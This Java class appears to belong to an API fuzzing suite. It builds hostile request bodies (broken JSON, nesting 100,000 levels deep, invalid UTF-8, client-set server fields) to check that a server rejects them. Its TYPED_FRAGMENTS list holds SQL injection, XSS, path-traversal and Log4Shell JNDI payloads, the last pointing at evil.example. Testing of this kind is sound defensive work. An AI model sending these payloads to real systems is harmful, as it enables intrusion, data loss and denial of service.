package cn.wenming.suite.probe;

import static cn.wenming.suite.probe.JsonEdits.bytes;
import static cn.wenming.suite.probe.JsonEdits.concat;
import static cn.wenming.suite.probe.JsonEdits.get;
import static cn.wenming.suite.probe.JsonEdits.pointer;
import static cn.wenming.suite.probe.JsonEdits.raw;
import static cn.wenming.suite.probe.JsonEdits.remove;
import static cn.wenming.suite.probe.JsonEdits.set;
import static cn.wenming.suite.probe.JsonEdits.synthesize;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

import cn.wenming.suite.probe.HostileProbe.Attempt;

/**
 * The hostile probe's bodies: whole bodies that are broken, of the wrong media type or nested
 * thousands deep, and for every field of a body's schema (down to four levels) the values it must
 * refuse: wrong types, missing, null, too long, out of range, invalid UTF-8, control characters,
 * SQL and HTML where the field is typed, and the fields only the server sets.
 */
final class HostileBodies {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Fields only the server sets (API conventions): never accepted from a client. */
    static final List<String> SERVER_OWNED = List.of("id", "version", "status", "number", "issueNumber", "cumulativeNumber",
            "createdAt", "updatedAt", "createdBy", "publishedAt", "overdue");

    static final List<String> TYPED_FRAGMENTS = List.of("' OR '1'='1", "1; DROP TABLE bulletin;--", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "../../etc/passwd", "${jndi:ldap://evil.example/a}");

    static final String ONE_MB = "a".repeat(1024 * 1024);

    /** Bodies that no text or file operation can accept: nothing, NUL bytes, invalid UTF-8, noise. */
    static Map<String, byte[]> rawBodies() {
        byte[] noise = new byte[4096];
        new java.util.Random(42).nextBytes(noise);
        return Map.of("nothing", new byte[0],
                "NUL bytes", new byte[] { 0, 0, 0, 0 },
                "invalid UTF-8", new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, 'a' },
                "random bytes", noise,
                "control characters", "\u0001\u0002\u001b[31m\u007f".getBytes(StandardCharsets.UTF_8));
    }

    void jsonBodies(Api.Operation op, String label, String method, String url, JsonNode schema, JsonNode example,
            Consumer<Attempt> out) {
        String json = "application/json; charset=UTF-8";
        List<String[]> broken = List.of(
                new String[] { "a truncated object", "{\"a\":" },
                new String[] { "a lone brace", "{" },
                new String[] { "single quotes", "{'a':'b'}" },
                new String[] { "a trailing comma", "{\"a\":1,}" },
                new String[] { "a comment", "/* x */ {}" },
                new String[] { "null", "null" },
                new String[] { "a string", "\"text\"" },
                new String[] { "a number", "12" },
                new String[] { "NaN", "{\"a\": NaN}" },
                new String[] { Api.type(schema).equals("array") ? "an object instead of an array" : "an array instead of an object",
                        Api.type(schema).equals("array") ? "{}" : "[]" },
                new String[] { "arrays nested 100,000 deep", "[".repeat(100_000) + "]".repeat(100_000) },
                new String[] { "objects nested 20,000 deep", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000) });
        for (String[] b : broken) {
            out.accept(new Attempt(label + " with " + b[0], method, url, json, b[1].getBytes(StandardCharsets.UTF_8)));
        }
        out.accept(new Attempt(label + " with no body", method, url, json, null));
        out.accept(new Attempt(label + " with an empty body", method, url, json, new byte[0]));
        if (!op.bodies().containsKey("text/plain")) {
            out.accept(new Attempt(label + " with the example as text/plain", method, url, "text/plain; charset=UTF-8",
                    example.toString().getBytes(StandardCharsets.UTF_8)));
        }
        out.accept(new Attempt(label + " with the example as application/xml", method, url, "application/xml",
                "<a>1</a>".getBytes(StandardCharsets.UTF_8)));
        out.accept(new Attempt(label + " with invalid UTF-8 in the body", method, url, json,
                concat("{\"x\":\"".getBytes(StandardCharsets.UTF_8), new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF }, "\"}".getBytes(StandardCharsets.UTF_8))));
        if (example.isObject()) {
            ObjectNode extra = example.deepCopy();
            extra.put("colour", "红");
            out.accept(new Attempt(label + " with an unknown field", method, url, json, bytes(extra)));
            Set<String> known = properties(op, schema);
            for (String owned : SERVER_OWNED) {
                if (!known.contains(owned)) {
                    ObjectNode withOwned = example.deepCopy();
                    withOwned.set(owned, owned.endsWith("At") ? new TextNode("2020-01-01T00:00:00+08:00")
                            : owned.equals("id") ? new TextNode(UUID.randomUUID().toString())
                            : owned.equals("status") ? new TextNode("PUBLISHED") : owned.equals("overdue") ? NODES.booleanNode(true) : NODES.numberNode(7));
                    out.accept(new Attempt(label + " with the server-owned field " + owned, method, url, json, bytes(withOwned)));
                }
            }
        }
        fields(op, label, method, url, schema, example, new ArrayList<>(), 0, out);
    }

    private static Set<String> properties(Api.Operation op, JsonNode schema) {
        Set<String> names = new java.util.HashSet<>();
        op.resolve(schema).path("properties").fieldNames().forEachRemaining(names::add);
        return names;
    }

    /** Mutations of each field of {@code schema}, found at {@code path} in the example. */
    private void fields(Api.Operation op, String label, String method, String url, JsonNode schema, JsonNode example,
            List<Object> path, int depth, Consumer<Attempt> out) {
        if (depth > 4) {
            return;
        }
        JsonNode s = op.resolve(schema);
        String type = Api.type(s);
        if (type.equals("object") && s.has("properties")) {
            Set<String> required = new java.util.HashSet<>();
            s.path("required").forEach(r -> required.add(r.asText()));
            Iterator<Map.Entry<String, JsonNode>> props = s.path("properties").fields();
            while (props.hasNext()) {
                var prop = props.next();
                List<Object> at = new ArrayList<>(path);
                at.add(prop.getKey());
                JsonNode fieldSchema = op.resolve(prop.getValue());
                mutate(op, label, method, url, example, at, fieldSchema, required.contains(prop.getKey()), out);
                JsonNode current = get(example, at);
                if (current == null || current.isMissingNode() || current.isNull()) {
                    // give the field a value so that what is inside it can be attacked too
                    JsonNode filled = synthesize(op, fieldSchema, 0);
                    JsonNode copy = set(example, at, filled);
                    fields(op, label, method, url, fieldSchema, copy, at, depth + 1, out);
                } else {
                    fields(op, label, method, url, fieldSchema, example, at, depth + 1, out);
                }
            }
        } else if (type.equals("array")) {
            JsonNode items = op.resolve(s.path("items"));
            JsonNode current = get(example, path);
            JsonNode base = example;
            if (current == null || !current.isArray() || current.isEmpty()) {
                ArrayNode one = NODES.arrayNode();
                one.add(synthesize(op, items, 0));
                base = set(example, path, one);
            }
            List<Object> at = new ArrayList<>(path);
            at.add(0);
            mutate(op, label, method, url, base, at, items, true, out);
            fields(op, label, method, url, items, base, at, depth + 1, out);
        }
    }

    private void mutate(Api.Operation op, String label, String method, String url, JsonNode example, List<Object> at,
            JsonNode s, boolean required, Consumer<Attempt> out) {
        String json = "application/json; charset=UTF-8";
        String name = pointer(at);
        Consumer<Object[]> emit = (pair) -> out.accept(new Attempt(label + " with " + name + " " + pair[0], method, url, json,
                pair[1] instanceof byte[] raw ? raw : bytes(set(example, at, (JsonNode) pair[1]))));
        if (required && !(at.get(at.size() - 1) instanceof Integer)) {
            emit.accept(new Object[] { "missing", remove(example, at) });
            emit.accept(new Object[] { "null", NODES.nullNode() });
        }
        String type = Api.type(s);
        switch (type) {
            case "string" -> {
                emit.accept(new Object[] { "a number", NODES.numberNode(12345) });
                emit.accept(new Object[] { "a boolean", NODES.booleanNode(true) });
                emit.accept(new Object[] { "an object", NODES.objectNode().put("a", 1) });
                emit.accept(new Object[] { "an array", NODES.arrayNode().add("x") });
                emit.accept(new Object[] { "1 MB long", new TextNode(ONE_MB) });
                emit.accept(new Object[] { "a NUL character", new TextNode("文明\u0000") });
                emit.accept(new Object[] { "control characters", new TextNode("a\u0001b\u001b[31m") });
                emit.accept(new Object[] { "invalid UTF-8", raw(example, at, new byte[] { '"', (byte) 0xC3, 0x28, (byte) 0xFF, '"' }) });
                emit.accept(new Object[] { "a lone surrogate", raw(example, at, "\"\\ud800x\"".getBytes(StandardCharsets.US_ASCII)) });
                emit.accept(new Object[] { "DEL and backspace", new TextNode("a\u007f\bb") });
                boolean typed = s.has("format") || s.has("enum") || s.has("pattern");
                if (typed && !s.path("pattern").asText().equals("\\S")) {
                    for (String fragment : TYPED_FRAGMENTS) {
                        emit.accept(new Object[] { "\"" + fragment + "\"", new TextNode(fragment) });
                    }
                }
                if (s.has("maxLength") && s.get("maxLength").asInt() < 100_000) {
                    emit.accept(new Object[] { "one character too long", new TextNode("长".repeat(s.get("maxLength").asInt() + 1)) });
                }
                if (s.path("minLength").asInt() > 0 || s.path("pattern").asText().equals("\\S")) {
                    emit.accept(new Object[] { "blank", new TextNode("   ") });
                }
            }
            case "integer", "number" -> {
                emit.accept(new Object[] { "a string", new TextNode("abc") });
                emit.accept(new Object[] { "a numeric string", new TextNode("12") });
                emit.accept(new Object[] { "a boolean", NODES.booleanNode(true) });
                emit.accept(new Object[] { "an object", NODES.objectNode() });
                emit.accept(new Object[] { "1e400", raw(example, at, "1e400".getBytes(StandardCharsets.US_ASCII)) });
                emit.accept(new Object[] { "2^70", raw(example, at, "1180591620717411303424".getBytes(StandardCharsets.US_ASCII)) });
                emit.accept(new Object[] { "-2^70", raw(example, at, "-1180591620717411303424".getBytes(StandardCharsets.US_ASCII)) });
                if (type.equals("integer")) {
                    emit.accept(new Object[] { "a fraction", NODES.numberNode(1.5) });
                }
                if (s.has("maximum")) {
                    emit.accept(new Object[] { "above its maximum", NODES.numberNode(s.get("maximum").asLong() + 1) });
                }
                if (s.has("minimum")) {
                    emit.accept(new Object[] { "below its minimum", NODES.numberNode(s.get("minimum").asLong() - 1) });
                }
            }
            case "boolean" -> {
                emit.accept(new Object[] { "a string", new TextNode("yes") });
                emit.accept(new Object[] { "a number", NODES.numberNode(1) });
            }
            case "array" -> {
                emit.accept(new Object[] { "an object", NODES.objectNode().put("a", 1) });
                emit.accept(new Object[] { "a string", new TextNode("x") });
                if (s.has("maxItems") && s.get("maxItems").asInt() < 2000) {
                    JsonNode item = get(example, at) != null && get(example, at).isArray() && !get(example, at).isEmpty()
                            ? get(example, at).get(0) : synthesize(op, op.resolve(s.path("items")), 0);
                    ArrayNode many = NODES.arrayNode();
                    for (int i = 0; i <= s.get("maxItems").asInt(); i++) {
                        many.add(item.deepCopy());
                    }
                    emit.accept(new Object[] { "one item too many", many });
                }
            }
            case "object" -> {
                emit.accept(new Object[] { "an array", NODES.arrayNode().add(1) });
                emit.accept(new Object[] { "a string", new TextNode("x") });
            }
            default -> {
            }
        }
    }
}
